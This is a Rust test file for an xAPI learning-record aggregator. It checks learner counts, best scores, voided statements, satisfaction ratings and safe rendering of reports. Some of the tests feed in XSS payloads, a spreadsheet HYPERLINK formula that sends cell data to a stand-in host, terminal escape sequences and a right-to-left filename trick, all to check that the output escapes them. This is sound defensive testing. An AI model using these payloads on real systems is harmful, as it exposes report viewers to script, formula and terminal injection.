use super::render;
use super::*;
use crate::course::Course;
use crate::course::MemoryFiles;
use crate::quiz::{grade, score_attempt, Response};
use crate::xapi::statement::{Agent, Session, Stamp, Statement};
use serde_json::json;

// The IRIs as the specifications and the xAPI registry write them, not read from the code under test.
const ADL: &str = "http://adlnet.gov/expapi/verbs/";
const RATED: &str = "http://id.tincanapi.com/verb/rated";
const VOIDED: &str = "http://adlnet.gov/expapi/verbs/voided";
const COURSE_TYPE: &str = "http://adlnet.gov/expapi/activities/course";
const ASSESSMENT_TYPE: &str = "http://adlnet.gov/expapi/activities/assessment";

fn course(with_assessment: bool) -> Course {
    let mut manifest = "id = \"https://example.org/courses/x\"\ntitle = \"Cours X\"\nlanguage = \"fr\"\n\n[[modules]]\nid = \"m1\"\ntitle = \"Module 1\"\nlessons = [\"a.md\"]\n".to_owned();
    if with_assessment {
        manifest.push_str("\n[[assessments]]\ntitle = \"Final\"\nfile = \"final.gift\"\n");
    }
    let files = MemoryFiles::default()
        .with("course.toml", &manifest)
        .with("a.md", "# Leçon A\n\nTexte.\n")
        .with("final.gift", "::F1:: Oui ? {T}\n\n::F2:: Deux ? {#2}\n");
    crate::course::test_course("x", &files)
}

fn session<'a>(course: &'a Course, learner: &str, registration: &str) -> Session<'a> {
    Session {
        course,
        actor: Agent::account("https://campus.example.org", learner, None),
        registration: registration.into(),
    }
}

/// 2026-11-05 and 2026-12-05, in ms since the epoch.
const NOVEMBER: f64 = 1_793_923_200_000.0;
const DECEMBER: f64 = 1_796_515_200_000.0;

struct Feed {
    next: u32,
    statements: Vec<Value>,
}

impl Feed {
    fn new() -> Feed {
        Feed { next: 0, statements: Vec::new() }
    }

    fn stamp(&mut self, at_ms: f64) -> Stamp {
        self.next += 1;
        Stamp { id: format!("00000000-0000-4000-8000-{:012}", self.next), at_ms }
    }

    fn push(&mut self, statement: Statement) -> String {
        let mut value = serde_json::to_value(&statement).unwrap();
        value["stored"] = value["timestamp"].clone();
        self.statements.push(value);
        statement.id
    }

    fn aggregate(&self) -> Report {
        let voided: HashSet<String> = voided_ids(&self.statements).into_iter().collect();
        let mut aggregator = Aggregator::new(voided);
        for statement in &self.statements {
            aggregator.add(statement);
        }
        aggregator.report()
    }
}

fn attempt(feed: &mut Feed, s: &Session, at: f64, right: bool) {
    let assessment = &s.course.assessments[0];
    let responses: BTreeMap<String, Response> = [
        ("f1".to_owned(), Response::TrueFalse(right)),
        ("f2".to_owned(), Response::Number(if right { "2" } else { "3" }.into())),
    ]
    .into();
    let parent = s.assessment_activity(assessment);
    for question in assessment.questions() {
        let response = &responses[question.id.as_str()];
        let graded = grade(question, response).unwrap();
        let stamp = feed.stamp(at);
        feed.push(s.answered(stamp, question, parent.clone(), response, &graded));
    }
    let questions: Vec<_> = assessment.questions().cloned().collect();
    let given: Vec<Option<Response>> = questions.iter().map(|q| responses.get(q.id.as_str()).cloned()).collect();
    let score = score_attempt(&questions, &given, assessment.pass_mark);
    let stamp = feed.stamp(at);
    feed.push(s.assessed(stamp, assessment, &score, 60_000));
}

#[test]
fn one_learner_with_two_registrations_counts_once_and_a_retaken_assessment_counts_at_its_best() {
    let course = course(true);
    let mut feed = Feed::new();
    let first = session(&course, "camille", "11111111-1111-4111-8111-111111111111");
    let second = session(&course, "camille", "22222222-2222-4222-8222-222222222222");
    let stamp = feed.stamp(DECEMBER);
    feed.push(first.initialized(stamp));
    attempt(&mut feed, &first, DECEMBER + 1000.0, false);
    let stamp = feed.stamp(DECEMBER + 2000.0);
    feed.push(first.terminated(stamp, 30 * 60_000));
    attempt(&mut feed, &second, DECEMBER + 3000.0, true);
    let stamp = feed.stamp(DECEMBER + 4000.0);
    feed.push(second.completed(stamp, 40 * 60_000));
    let stamp = feed.stamp(DECEMBER + 5000.0);
    feed.push(second.terminated(stamp, 15 * 60_000));

    let report = feed.aggregate();
    let figures = &report.courses[0].total;
    assert_eq!((figures.learners, figures.completed, figures.passed), (1, 1, 1));
    assert_eq!(figures.mean_best_score, Some(1.0), "the failed first attempt does not lower the best");
    assert!((figures.hours - 0.75).abs() < 1e-9, "two sessions, 30 + 15 minutes: {}", figures.hours);
    assert_eq!(report.courses[0].title, "Cours X");
}

#[test]
fn voided_statements_are_left_out_even_when_the_voiding_one_comes_later() {
    let course = course(false);
    let mut feed = Feed::new();
    let s = session(&course, "dominique", "33333333-3333-4333-8333-333333333333");
    let stamp = feed.stamp(DECEMBER);
    feed.push(s.initialized(stamp));
    let stamp = feed.stamp(DECEMBER);
    let completed = feed.push(s.completed(stamp, 1000));
    let voiding = json!({
        "id": "00000000-0000-4000-8000-999999999999",
        "actor": {"objectType": "Agent", "mbox": "mailto:admin@example.org"},
        "verb": {"id": VOIDED, "display": {"en-US": "voided"}},
        "object": {"objectType": "StatementRef", "id": completed},
        "timestamp": "2026-12-06T10:00:00.000Z",
        "stored": "2026-12-06T10:00:00.000Z"
    });
    feed.statements.push(voiding);

    let report = feed.aggregate();
    assert_eq!((report.courses[0].total.learners, report.courses[0].total.completed), (1, 0));
    assert_eq!(report.statements_voided, 1);
}

#[test]
fn a_course_without_assessment_has_no_score_no_pass_and_no_questions() {
    let course = course(false);
    let mut feed = Feed::new();
    let s = session(&course, "eli", "44444444-4444-4444-8444-444444444444");
    let lesson = course.lessons().next().unwrap();
    let stamp = feed.stamp(NOVEMBER);
    feed.push(s.experienced(stamp, lesson));
    let stamp = feed.stamp(NOVEMBER + 1.0);
    feed.push(s.completed(stamp, 1000));

    let report = feed.aggregate();
    let course = &report.courses[0];
    assert_eq!((course.total.completed, course.total.passed, course.total.mean_best_score), (1, 0, None));
    assert!(course.questions.is_empty());
    assert_eq!(course.months.iter().map(|m| m.month.as_str()).collect::<Vec<_>>(), ["2026-11"]);
}

#[test]
fn satisfaction_keeps_the_latest_rating_of_each_registration_in_its_month() {
    let course = course(false);
    let mut feed = Feed::new();
    let a = session(&course, "fatou", "55555555-5555-4555-8555-555555555555");
    let b = session(&course, "gael", "66666666-6666-4666-8666-666666666666");
    let stamp = feed.stamp(NOVEMBER);
    feed.push(a.rated(stamp, 2, Some("Trop long")));
    let stamp = feed.stamp(DECEMBER);
    feed.push(a.rated(stamp, 4, Some("  Clair et utile ")));
    let stamp = feed.stamp(DECEMBER + 1.0);
    feed.push(b.rated(stamp, 5, None));

    let report = feed.aggregate();
    let course = &report.courses[0];
    assert_eq!(course.total.satisfaction_answers, 2, "one answer per registration");
    assert_eq!(course.total.satisfaction_mean, Some(4.5));
    assert_eq!(course.total.satisfaction_distribution, [0, 0, 0, 1, 1]);
    let november = &course.months.iter().find(|m| m.month == "2026-11").unwrap().figures;
    assert_eq!(november.satisfaction_answers, 0, "the November rating was replaced in December");
    assert_eq!(course.comments, ["Clair et utile"]);
}

#[test]
fn months_split_learners_and_the_total_counts_each_learner_once() {
    let course = course(false);
    let mut feed = Feed::new();
    let s = session(&course, "hugo", "77777777-7777-4777-8777-777777777777");
    let stamp = feed.stamp(NOVEMBER);
    feed.push(s.initialized(stamp));
    let stamp = feed.stamp(DECEMBER);
    feed.push(s.initialized(stamp));
    let report = feed.aggregate();
    let course = &report.courses[0];
    assert_eq!(course.months.len(), 2);
    assert!(course.months.iter().all(|m| m.figures.learners == 1));
    assert_eq!(course.total.learners, 1);
}

#[test]
fn assessment_questions_are_ranked_by_success_lowest_first() {
    let course = course(true);
    let mut feed = Feed::new();
    for (i, right) in [true, false, true].into_iter().enumerate() {
        let s = session(&course, &format!("learner-{i}"), &format!("88888888-8888-4888-8888-00000000000{i}"));
        attempt(&mut feed, &s, DECEMBER + i as f64, right);
    }
    // One more answer to F1 only, right: F1 3 of 4 (75 %), F2 2 of 3 (67 %).
    let s = session(&course, "learner-9", "88888888-8888-4888-8888-000000000009");
    let assessment = &course.assessments[0];
    let f1 = assessment.questions().next().unwrap();
    let response = Response::TrueFalse(true);
    let stamp = feed.stamp(DECEMBER + 10.0);
    feed.push(s.answered(stamp, f1, s.assessment_activity(assessment), &response, &grade(f1, &response).unwrap()));

    let questions = &feed.aggregate().courses[0].questions;
    let ranked: Vec<(&str, u64)> = questions.iter().map(|q| (q.id.rsplit('/').next().unwrap(), q.answers)).collect();
    assert_eq!(ranked, [("f2", 3), ("f1", 4)]);
    assert!((questions[0].success_rate - 2.0 / 3.0).abs() < 1e-9);
}

#[test]
fn statements_about_no_course_or_without_actor_are_skipped_not_counted() {
    let mut aggregator = Aggregator::default();
    aggregator.add(&json!({"id": "1", "verb": {"id": "http://adlnet.gov/expapi/verbs/completed"},
        "object": {"id": "https://example.org/other"}, "actor": {"mbox": "mailto:a@b.c"},
        "timestamp": "2026-12-01T00:00:00Z"}));
    aggregator.add(&json!({"id": "2", "verb": {"id": "x"}}));
    assert!(aggregator.report().courses.is_empty());
    assert_eq!((aggregator.read, aggregator.skipped_other), (2, 2));
}

#[test]
fn actors_are_the_same_whatever_the_case_of_their_email() {
    let lower = json!({"mbox": "mailto:camille@example.org"});
    let upper = json!({"mbox": "mailto:Camille@Example.org", "name": "Camille"});
    assert_eq!(actor_key(&lower), actor_key(&upper));
    assert_ne!(actor_key(&lower), actor_key(&json!({"account": {"homePage": "https://a", "name": "camille"}})));
    assert_eq!(actor_key(&json!({"name": "nobody"})), None);
}

#[test]
fn an_absurd_session_duration_saturates_instead_of_wrapping() {
    let mut aggregator = Aggregator::default();
    for id in ["1", "2"] {
        aggregator.add(&json!({"id": id, "verb": {"id": "http://adlnet.gov/expapi/verbs/terminated"},
            "actor": {"mbox": "mailto:a@b.c"}, "timestamp": "2026-12-01T00:00:00Z",
            "object": {"id": "https://example.org/c", "definition": {"type": COURSE_TYPE}},
            "result": {"duration": "PT99999999999999999999H"}}));
    }
    let hours = aggregator.report().courses[0].total.hours;
    assert!(hours.is_finite() && hours > 1e12, "{hours}");
}

#[test]
fn iso_durations_are_read_in_milliseconds() {
    assert_eq!(duration_ms("PT1H4M35.14S"), Some(3_875_140));
    assert_eq!(duration_ms("PT0S"), Some(0));
    assert_eq!(duration_ms("P1DT2H"), Some(26 * 3_600_000));
    assert_eq!(duration_ms("PT4M"), Some(240_000));
    assert_eq!(duration_ms("4 minutes"), None);
    assert_eq!(duration_ms("PT4X"), None);
    assert_eq!(duration_ms("PT12"), None);
}

#[test]
fn the_html_report_escapes_what_the_lrs_says_and_needs_no_script() {
    let hostile = "<script>alert(1)</script>";
    let mut aggregator = Aggregator::default();
    aggregator.add(&json!({"id": "1", "verb": {"id": RATED},
        "actor": {"mbox": "mailto:a@b.c"}, "timestamp": "2026-12-01T00:00:00Z",
        "object": {"id": "https://example.org/c", "definition": {"type": COURSE_TYPE, "name": {"fr": hostile}}},
        "result": {"score": {"raw": 4, "min": 1, "max": 5}, "response": "<img src=x onerror=alert(1)>"},
        "context": {"registration": "r"}}));
    let html = render::html(&aggregator.report(), "6 décembre 2026");
    assert!(!html.contains("<script") && !html.contains("<img"), "{html}");
    assert!(html.contains("&lt;script&gt;") && html.contains("&lt;img src=x"));
    let csv = render::csv(&aggregator.report());
    assert!(csv.lines().nth(1).unwrap().starts_with("https://example.org/c,<script>alert(1)</script>,2026-12,1,"));
    let quoted = Report {
        courses: vec![CourseFigures { title: "Un, \"deux\"".into(), ..aggregator.report().courses[0].clone() }],
        ..aggregator.report()
    };
    assert!(render::csv(&quoted).contains(",\"Un, \"\"deux\"\"\",2026-12,"));
}

#[test]
fn what_the_lrs_says_reaches_no_terminal_as_a_command_and_no_spreadsheet_as_a_formula() {
    let title = "=HYPERLINK(\"https://x.example/?\"&A1,\"clic\")\u{1b}]0;pwned\u{7}\u{1b}[2J\rÉcrasé";
    let question = "Q\u{9b}31m\u{202E}cod.exe";
    let mut aggregator = Aggregator::default();
    let course =
        json!({"id": "https://example.org/c\u{1b}[1m", "definition": {"type": COURSE_TYPE, "name": {"fr": title}}});
    aggregator.add(&json!({"id": "1", "verb": {"id": RATED},
        "actor": {"mbox": "mailto:a@b.c"}, "timestamp": "2026-12-01T00:00:00Z", "object": course,
        "result": {"score": {"raw": 4, "min": 1, "max": 5}, "response": "Merci\r\n\u{1b}[2Jfin"},
        "context": {"registration": "r"}}));
    aggregator.add(&json!({"id": "2", "verb": {"id": format!("{ADL}answered")},
        "actor": {"mbox": "mailto:a@b.c"}, "timestamp": "2026-12-01T00:00:01Z",
        "object": {"id": "https://example.org/c/questions/q1", "definition": {"type": "http://adlnet.gov/expapi/activities/cmi.interaction", "name": {"fr": question}}},
        "result": {"success": true},
        "context": {"registration": "r", "contextActivities": {"parent": [{"id": "https://example.org/c/assessments/final", "definition": {"type": ASSESSMENT_TYPE}}], "grouping": [course]}}}));
    let report = aggregator.report();
    let is_command = |c: char| crate::safe_text::is_control(c) && c != '\n';
    for (what, output) in [
        ("table", render::table(&report)),
        ("csv", render::csv(&report)),
        ("json", serde_json::to_string_pretty(&report).unwrap()),
        ("html", render::html(&report, "7 décembre 2026")),
    ] {
        assert!(!output.chars().any(is_command), "{what}: {output:?}");
    }
    let table = render::table(&report);
    assert!(table.contains("=HYPERLINK(") && table.contains("\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{d}Écrasé"), "{table}");
    assert!(table.contains("Q\\u{9b}31m\\u{202e}cod.exe"), "the question, as text: {table}");
    let csv = render::csv(&report);
    let row = csv.lines().nth(1).unwrap();
    assert!(row.contains(",\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1,\"\"clic\"\")"), "{row}");
    assert!(row.ends_with(",0,0,0,1,0"), "the figures stay numbers: {row}");
    assert_eq!(report.courses[0].comments, vec!["Merci\n\\u{1b}[2Jfin".to_owned()], "a comment keeps its lines");
}

#[test]
fn a_resumed_run_never_counts_twice_what_the_lrs_sends_again_from_the_watermarks_second() {
    let completed = |id: &str, learner: &str, stored: &str| {
        json!({"id": id, "verb": {"id": format!("{ADL}completed")}, "actor": {"mbox": format!("mailto:{learner}@b.c")},
               "timestamp": "2026-12-01T03:40:00Z", "stored": stored,
               "object": {"id": "https://example.org/c", "definition": {"type": COURSE_TYPE, "name": {"fr": "C"}}}})
    };
    let mut first = Aggregator::default();
    first.add(&completed("1", "a", "2026-12-07T03:40:05.900Z"));
    first.add(&completed("2", "b", "2026-12-07T03:40:06.108Z"));
    // Another LRS writes the same instant otherwise, and `.5` sorts before `.108` as text.
    first.add(&completed("3", "c", "2026-12-07T03:40:06.108000+00:00"));
    first.add(&completed("4", "d", "2026-12-07T03:40:06.05Z"));
    let mark = first.watermark.clone().unwrap();
    assert_eq!((mark.stored.as_str(), mark.ids.len()), ("2026-12-07T03:40:06.108Z", 2), "{mark:?}");

    // The cache, read back by the next run: the LRS answers `since` with the whole second again,
    // then a statement stored at the watermark's very instant that the first run never saw, and
    // one after it.
    let mut next: Aggregator = serde_json::from_str(&serde_json::to_string(&first).unwrap()).unwrap();
    next.resume();
    for statement in [
        completed("1", "a", "2026-12-07T03:40:05.900Z"),
        completed("4", "d", "2026-12-07T03:40:06.05Z"),
        completed("2", "b", "2026-12-07T03:40:06.108Z"),
        completed("3", "c", "2026-12-07T03:40:06.108Z"),
        completed("5", "e", "2026-12-07T03:40:06.108Z"),
        completed("6", "f", "2026-12-07T03:40:07Z"),
    ] {
        next.add(&statement);
    }
    assert_eq!((next.read, next.skipped_counted), (6, 4), "four counted before, two new");
    assert_eq!(next.report().courses[0].total.completed, 6, "each learner once");
    assert_eq!(next.watermark.unwrap().stored, "2026-12-07T03:40:07Z");
}

#[test]
fn a_score_an_lrs_kept_in_single_precision_counts_as_its_exact_fraction() {
    let scored = |score: Value| json!({"result": {"score": score}});
    // xapi-rs keeps `scaled` as an f32: 9/13 comes back as 0.6923077.
    let single = scored(json!({"scaled": 0.6923077, "raw": 9, "min": 0, "max": 13}));
    assert_eq!(scaled_score(&single), Some(9.0 / 13.0));
    let exact = scored(json!({"scaled": 9.0 / 13.0, "raw": 9, "min": 0, "max": 13}));
    assert_eq!(scaled_score(&single), scaled_score(&exact));
    // A `scaled` that says something else than raw/min/max (a weighted score) is taken as it is.
    assert_eq!(scaled_score(&scored(json!({"scaled": 0.5, "raw": 9, "min": 0, "max": 13}))), Some(0.5));
    // Without `scaled`, the fraction; without either, nothing.
    assert_eq!(scaled_score(&scored(json!({"raw": 3, "min": 1, "max": 5}))), Some(0.5));
    assert_eq!(scaled_score(&scored(json!({"raw": 3}))), None);
}

#[test]
#[cfg(not(target_arch = "wasm32"))]
fn an_aggregation_read_back_from_its_cache_gives_the_same_figures_to_the_last_digit() {
    let course = course(true);
    let mut feed = Feed::new();
    for (n, right) in [true, false, true, true, false, true, false].into_iter().enumerate() {
        let s = session(&course, &format!("learner-{n}"), &format!("00000000-0000-4000-8000-{n:012}"));
        attempt(&mut feed, &s, DECEMBER + n as f64 * 1000.0, right);
    }
    // Scores that serde_json's fast float parser reads back one unit in the last place off.
    for (n, scaled) in [0.47500000000000003, 0.45999999999999996, 0.41846153846153844].into_iter().enumerate() {
        let mut statement = feed.statements.last().unwrap().clone();
        statement["id"] = json!(format!("10000000-0000-4000-8000-{n:012}"));
        statement["actor"]["account"]["name"] = json!(format!("other-{n}"));
        statement["result"]["score"] = json!({ "scaled": scaled });
        feed.statements.push(statement);
    }
    let mut aggregator = Aggregator::new(HashSet::new());
    for statement in &feed.statements {
        aggregator.add(statement);
    }
    let read_back: Aggregator = serde_json::from_str(&serde_json::to_string(&aggregator).unwrap()).unwrap();
    assert_eq!(read_back.report(), aggregator.report());
}
